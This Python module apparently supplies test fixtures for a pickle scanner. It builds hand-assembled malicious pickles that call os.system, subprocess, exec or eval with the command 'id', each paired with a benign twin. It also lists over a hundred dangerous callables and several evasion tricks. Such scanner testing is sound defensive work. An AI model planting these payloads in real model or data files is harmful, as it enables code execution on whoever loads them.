"""Pickles that do something when they are loaded, each with a twin of the same form that does not.

Built opcode by opcode, never by pickling: nothing here holds a live object. The comment of each
says what its loader would call. `ID` is what they would run.
"""
# ruff: noqa: E501, ISC004 - a table

from __future__ import annotations

import pickle
import struct
import zlib
from collections.abc import Mapping

ID = "id"
PROTO = b"\x80\x04"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def asked(module: str, name: str) -> bytes:
    """STACK_GLOBAL of two texts."""
    return text(module) + text(name) + b"\x93"


def called(module: str, name: str, *arguments: bytes, by: bytes = b"R") -> bytes:
    """The call of a name with arguments that are opcodes."""
    return asked(module, name) + b"(" + b"".join(arguments) + b"t" + by


def whole(*parts: bytes) -> bytes:
    """A pickle of protocol 4."""
    return PROTO + b"".join(parts) + b"."


def line_call(module: str, name: str, argument: str = ID) -> bytes:
    """GLOBAL and REDUCE, protocol 0."""
    return f"c{module}\n{name}\n(S'{argument}'\ntR.".encode()


def simple(module: str, name: str, *arguments: bytes) -> bytes:
    """One call of one name with texts; ID if none are given."""
    return whole(called(module, name, *(arguments or (text(ID),))))


# Names that run, load, reach or open something when they are called with plain data: what each of
# them would do stands behind it.
GADGETS: tuple[tuple[str, str], ...] = (
    ("os", "system"),  # the shell
    ("posix", "system"),  # the same under its own name
    ("nt", "system"),  # the same on Windows
    ("subprocess", "Popen"),  # a process
    ("commands", "getoutput"),  # Python 2's subprocess
    ("__builtin__", "eval"),  # Python 2's name of builtins.eval
    ("__builtin__", "apply"),  # calls what it is given
    ("builtins", "exec"),  # code
    ("builtins", "__import__"),  # any module
    ("builtins", "open"),  # any file
    ("pip", "main"),  # installs a package, whose setup runs
    ("pip._internal", "main"),  # the same
    ("ensurepip", "_run_pip"),  # runs code in pip's name
    ("runpy", "run_path"),  # a file as a program
    ("pty", "spawn"),  # a process on a terminal
    ("timeit", "timeit"),  # exec of its statement
    ("cProfile", "run"),  # exec
    ("profile", "Profile.run"),  # exec
    ("trace", "Trace.run"),  # exec
    ("pdb", "run"),  # exec under the debugger
    ("bdb", "Bdb.run"),  # exec
    ("doctest", "debug_script"),  # exec of a docstring
    ("code", "InteractiveInterpreter.runcode"),  # exec of a code object
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"),  # exec
    ("idlelib.calltip", "get_entity"),  # eval
    ("lib2to3.pgen2.grammar", "Grammar.loads"),  # pickle.loads
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),  # a process
    ("asyncio", "run"),  # a coroutine
    ("multiprocessing.util", "spawnv_passfds"),  # a process
    ("unittest.mock", "_importer"),  # any module
    ("pydoc", "pipepager"),  # the shell
    ("pydoc", "locate"),  # any name of any module
    ("webbrowser", "open"),  # the browser
    ("logging.config", "dictConfig"),  # classes by name, called
    ("logging", "FileHandler"),  # creates a file
    ("_io", "FileIO"),  # any file, past the block on open
    ("io", "open_code"),  # any file
    ("importlib", "import_module"),  # any module
    ("importlib.util", "_LazyModule"),  # a module
    ("pkgutil", "resolve_name"),  # any name of any module
    ("ctypes", "CDLL"),  # a library: its constructors run
    ("ctypes.util", "find_library"),  # gcc
    ("marshal", "loads"),  # a code object
    ("types", "FunctionType"),  # a function out of a code object
    ("types", "CodeType"),  # a code object
    ("imaplib", "IMAP4_stream"),  # the shell
    ("uuid", "_get_command_stdout"),  # a process
    ("_osx_support", "_find_build_tool"),  # the shell
    ("_aix_support", "_read_cmd_output"),  # the shell
    ("_pyrepl.pager", "pipe_pager"),  # the shell
    ("test.support.script_helper", "assert_python_ok"),  # a Python process
    ("distutils.file_util", "write_file"),  # writes a file
    ("distutils.spawn", "spawn"),  # a process
    ("shutil", "rmtree"),  # deletes a folder
    ("socket", "create_connection"),  # the network
    ("ssl", "get_server_certificate"),  # the network: DNS tells it
    ("urllib.request", "urlopen"),  # the network
    ("requests", "get"),  # the network
    ("sqlite3", "connect"),  # creates a file; loads extensions later
    ("zipimport", "zipimporter"),  # modules out of an archive
    ("venv", "create"),  # a process
    ("pickle", "loads"),  # another pickle
    ("_pickle", "loads"),  # another pickle
    ("dill", "loads"),  # another pickle
    ("cloudpickle", "loads"),  # another pickle
    ("cloudpickle.cloudpickle", "_make_function"),  # a function out of code
    ("joblib", "load"),  # another file
    ("joblib.numpy_pickle", "load"),  # another file
    ("numpy", "load"),  # another file, with pickles if it says so
    ("numpy.core.multiarray", "fromfile"),  # reads any file
    ("pandas", "read_pickle"),  # another pickle
    ("pandas.io.pickle", "read_pickle"),  # another pickle
    ("pandas", "eval"),  # expressions that reach attributes
    ("torch", "load"),  # another file
    ("torch.serialization", "load"),  # another file
    ("torch.hub", "load"),  # a repository's code
    ("torch.utils.cpp_extension", "load_inline"),  # compiles and loads code
    ("torch.utils._config_module", "ConfigModule.load_config"),  # pickle.loads
    ("torch.utils.collect_env", "run"),  # the shell
    ("torch.utils.bottleneck.__main__", "run_cprofile"),  # exec
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),  # pickle.loads
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),  # exec
    ("torch.jit", "load"),  # another file's code
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),  # eval
    ("torch._inductor.codecache", "compile_file"),  # the shell
    ("torch._dynamo.guards", "GuardBuilder.get"),  # eval
    ("torch.fx.graph_module", "reduce_graph_module"),  # exec of its source
    ("numpy.testing._private.utils", "runstring"),  # exec
    ("numpy.f2py.crackfortran", "getlincoef"),  # eval
    ("numpy.f2py.crackfortran", "param_eval"),  # eval
    ("numpy.f2py.capi_maps", "getinit"),  # eval
    ("numpy.distutils.exec_command", "exec_command"),  # the shell
    ("functools", "reduce"),  # calls what it is given
    ("itertools", "starmap"),  # calls what it is given, when it is walked
    ("builtins", "map"),  # as starmap
    ("operator", "attrgetter"),  # reaches attributes
    ("operator", "methodcaller"),  # calls methods
    ("copyreg", "add_extension"),  # gives a number to a name
    ("codecs", "open"),  # any file
    ("tempfile", "mktemp"),  # a name to race for
    ("signal", "signal"),  # a handler
    ("threading", "Thread"),  # a thread of what it is given
    ("atexit", "register"),  # called at the end
    ("gc", "get_objects"),  # reaches everything
    ("sys", "settrace"),  # calls what it is given at every line
    ("inspect", "getattr_static"),  # reaches attributes
    ("linecache", "getlines"),  # any file
    ("fileinput", "input"),  # any file
    ("IPython", "start_ipython"),  # a shell
    ("setuptools._distutils.spawn", "spawn"),  # a process
    ("keras.models", "load_model"),  # another file's layers, Lambda too
    ("mlflow.pyfunc", "load_model"),  # another model
    ("hydra.utils", "instantiate"),  # calls by name
    ("yaml", "unsafe_load"),  # calls by tag
    ("sympy", "sympify"),  # eval
    ("scipy.io", "loadmat"),  # another file
    ("scipy.stats._distn_infrastructure", "rv_continuous"),  # exec of a template in its state
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module"),  # downloads code
    ("os.path", "exists"),  # tells what is there
    ("posixpath", "os.system"),  # a walk through a module
    ("random", "_os.system"),  # the same
    ("collections", "_sys.modules"),  # the table of modules
    ("collections", "OrderedDict.__init__.__globals__"),  # the globals of a module
    ("builtins", "object.__subclasses__"),  # every class
)

_LOOP = b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR."
_FORMAT = "numpy.core.multiarray"


def forms() -> Mapping[str, tuple[bytes, bytes]]:
    """Ways to call something, each with a twin: an attack, and the same opcodes with data."""
    return {
        # os.system by each opcode that names or calls
        "GLOBAL": (line_call("os", "system"), line_call("decimal", "Decimal", "1")),
        "INST": (b"(S'id'\nios\nsystem\n.", b"(S'1'\nidecimal\nDecimal\n."),
        "OBJ": (b"(cos\nsystem\nS'id'\no.", b"(cdecimal\nDecimal\nS'1'\no."),
        "NEWOBJ": (
            whole(called("subprocess", "Popen", text(ID), by=b"\x81")),
            whole(called("decimal", "Decimal", text("1"), by=b"\x81")),
        ),
        "NEWOBJ_EX": (
            whole(asked("subprocess", "Popen"), b")}", text("args"), text(ID), b"s\x92"),
            whole(asked("uuid", "UUID"), b")}\x92"),
        ),
        "BUILD of a class": (
            whole(asked("collections", "OrderedDict"), b"}", text("x"), b"Nsb"),
            whole(asked("uuid", "UUID"), b")\x81}", text("int"), b"K\x07sb"),
        ),
        # BUILD twice: the first sets __setstate__, the second calls it
        "BUILD hook": (
            whole(
                asked("uuid", "UUID"), b")\x81}", text("__setstate__"),
                asked("torch.nn.functional", "relu"), b"sb", text(ID), b"b",
            ),
            whole(asked("uuid", "UUID"), b")\x81}", text("state"), text(ID), b"sb"),
        ),
        "slots": (
            whole(
                asked("uuid", "UUID"), b")\x81N}", text("__class__"),
                asked("decimal", "Decimal"), b"s\x86b",
            ),
            whole(asked("uuid", "UUID"), b")\x81N}", text("int"), b"K\x01s\x86b"),
        ),
        "EXT": (PROTO + b"\x82\x01)R.", whole(b"K\x01")),
        # names out of the memo, behind noise
        "memo": (
            whole(text("os"), b"\x94", text("system"), b"\x940", b"0h\x00h\x01\x93", text(ID), b"\x85R"),
            whole(text("os"), b"\x94", text("system"), b"\x940", b"0h\x00h\x01\x86"),
        ),
        "memo by text": (
            b"S'os'\np+1_0\n0S'system'\np 7\n0" + b"\x80\x04g10\ng7\n\x93" + text(ID) + b"\x85R.",
            b"S'os'\np+1_0\n0S'system'\np 7\n0" + b"\x80\x04g10\ng7\n\x86.",
        ),
        "escapes": (
            b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + text(ID) + b"\x85R.",
            b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x86.",
        ),
        "escaped STRING": (
            b"\x80\x04S'\\x6f\\163'\nS'sys\\\ntem'\n."[:0] + line_call("o\\x73", "system")[:0]
            + b"\x80\x04S'\\x6f\\163'\nS'\\x73ystem'\n\x93" + text(ID) + b"\x85R.",
            b"\x80\x04S'\\x6f\\163'\nS'\\x73ystem'\n\x86.",
        ),
        "popped": (
            whole(called("os", "system", text(ID)), b"0", b"}"),
            whole(called("decimal", "Decimal", text("1")), b"0", b"}"),
        ),
        "duplicated": (
            whole(asked("os", "system"), b"2", text(ID), b"\x85R0"),
            whole(asked("decimal", "Decimal"), b"2", text("1"), b"\x85R0"),
        ),
        "second pickle": (pickle.dumps([1]) + line_call("os", "system"), pickle.dumps([1]) * 2),
        "truncated": (line_call("os", "system")[:-1], whole(b"K\x01")),
        "unknown opcode": (line_call("os", "system")[:-1] + b"\xff", whole(b"K\x01")),
        "frame lie": (
            PROTO + b"\x95" + struct.pack("<Q", 1 << 40) + called("os", "system", text(ID)) + b".",
            PROTO + b"\x95" + struct.pack("<Q", 2) + b"N.",
        ),
        # reaches os.system by its name and calls it
        "getattr chain": (_LOOP, whole(called("builtins", "getattr", asked("torch.optim.sgd", "SGD"), text("MODE")))),
        "call of a result": (
            whole(called("functools", "partial", asked("os", "system"), text(ID)), b")R"),
            whole(called("functools", "partial", asked("numpy", "clip")), b"(", asked("numpy", "clip"),
                  b")}", text("a_min"), b"K\x00sNtb"),
        ),
        # the function in the state of a partial
        "partial by state": (
            whole(called("functools", "partial", asked("numpy", "clip")), b"(",
                  asked("builtins", "eval"), b")}Ntb"),
            whole(called("functools", "partial", asked("numpy", "clip")), b"(",
                  asked("numpy", "clip"), b")}Ntb"),
        ),
        # a name that somebody calls later: FunctionTransformer().transform
        "name as data": (
            whole(asked("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
                  b")\x81}", text("func"), asked("os", "system"), b"sb"),
            whole(asked("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
                  b")\x81}", text("func"), asked("numpy", "log1p"), b"sb"),
        ),
        "name in a list": (whole(b"]", asked("os", "system"), b"a"), whole(b"]", asked("numpy", "ndarray"), b"a")),
        "dotted name": (
            whole(called("torch", "serialization.os.system", text(ID))),
            whole(asked("torch", "float32")),
        ),
        # NumPy's loader of ufuncs gives any name of any module
        "ufunc loader": (
            whole(called("numpy.core", "_ufunc_reconstruct", text("os"), text("system"))),
            whole(called("numpy.core", "_ufunc_reconstruct", text(f"{_FORMAT}"[:10] + "._multiarray_umath"), text("log1p"))),
        ),
        # NumPy's maker of generators calls its second argument with its first
        "generator": (
            whole(called("numpy.random._pickle", "__generator_ctor", text(ID), asked("os", "system"))),
            whole(called("numpy.random._pickle", "__generator_ctor", text("MT19937"),
                         asked("numpy.random._pickle", "__bit_generator_ctor"))),
        ),
        # SciPy's distributions exec a text of their state when it is set
        "distribution": (
            whole(asked("scipy.stats._continuous_distns", "uniform_gen"), b")\x81}",
                  text("_parse_arg_template"), text("import os; os.system('id')"), b"sb"),
            whole(asked("scipy.stats._continuous_distns", "uniform_gen"), b")\x81}",
                  text("name"), text("uniform"), b"sb"),
        ),
        "distribution, reconstructed": (
            b"ccopyreg\n_reconstructor\n(cscipy.stats._continuous_distns\nnorm_gen\ncbuiltins\nobject"
            b"\nNtR}S'_parse_arg_template'\nS'import os'\nsb.",
            b"ccopyreg\n_reconstructor\n(cscipy.stats._continuous_distns\nnorm_gen\ncbuiltins\nobject"
            b"\nNtR}S'name'\nS'norm'\nsb.",
        ),
        # torch's loader of storages loads any pickle
        "storage loader": (
            whole(called("torch.storage", "_load_from_bytes", b"C" + bytes([len(line_call("os", "system"))]) + line_call("os", "system"))),
            whole(called("torch.storage", "_load_from_bytes", b"C" + bytes([len(STORAGE)]) + STORAGE)),
        ),
        "storage loader, nested": (
            whole(called("torch.storage", "_load_from_bytes", _bytes(_legacy(asked("os", "system") + text(ID) + b"\x85R")))),
            whole(called("torch.storage", "_load_from_bytes", _bytes(_legacy(b"N")))),
        ),
        # the state of what is everybody's: here a class, through one of its constants
        "shared state": (
            whole(called("builtins", "getattr", asked("torch.optim.sgd", "SGD"), text("MODE")),
                  b"}", text("x"), b"Nsb"),
            whole(called("builtins", "getattr", asked("torch.optim.sgd", "SGD"), text("MODE"))),
        ),
        # torch's rebuilder calls its first argument with the third
        "from type": (
            whole(asked("torch._tensor", "_rebuild_from_type_v2"), b"(", asked("torch.storage", "_load_from_bytes"),
                  asked("torch", "Tensor"), text(ID), b"\x85}tR"),
            whole(asked("torch._tensor", "_rebuild_from_type_v2"), b"(", asked("torch._utils", "_rebuild_parameter"),
                  asked("torch.nn.parameter", "Parameter"), b"N\x88N\x87}tR"),
        ),
        # a module's hooks are called with its input
        "forward hook": (
            whole(asked("torch.nn.modules.linear", "Linear"), b")\x81}", text("_forward_hooks"),
                  b"}K\x00", asked("builtins", "exec"), b"ssb"),
            whole(asked("torch.nn.modules.linear", "Linear"), b")\x81}", text("_forward_hooks"), b"}sb"),
        ),
        # joblib before 0.10: compressed without any magic that others know
        "old joblib": (_zfile(line_call("os", "system")), _zfile(whole(b"K\x01"))),
        "module set": (
            whole(asked("sys", "modules"), text("os"), b"Ns"),
            whole(b"}", text("os"), b"Ns"),
        ),
        "items of a name": (
            whole(asked("collections", "OrderedDict"), text("os"), b"Ns"),
            whole(called("collections", "OrderedDict"), text("os"), b"Ns"),
        ),
        "computed name": (
            whole(called("builtins", "str", text("os")), text("system"), b"\x93", text(ID), b"\x85R"),
            whole(called("builtins", "str", text("os"))),
        ),
        "long name": (
            whole(text("os"), b"X" + struct.pack("<I", 1536) + (b"path.os." * 192), b"\x93", text(ID), b"\x85R"),
            whole(b"X" + struct.pack("<I", 1536) + (b"path.os." * 192)),
        ),
    }  # fmt: skip


def _bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def _legacy(tail: bytes) -> bytes:
    """A file in torch's old format without storages; its object is what the opcodes give."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    main = b"\x80\x02" + tail + b"."
    return magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + main + pickle.dumps([], 2)


STORAGE = _legacy(b"N")


def _zfile(raw: bytes) -> bytes:
    return b"ZF" + hex(len(raw)).ljust(19).encode() + zlib.compress(raw)
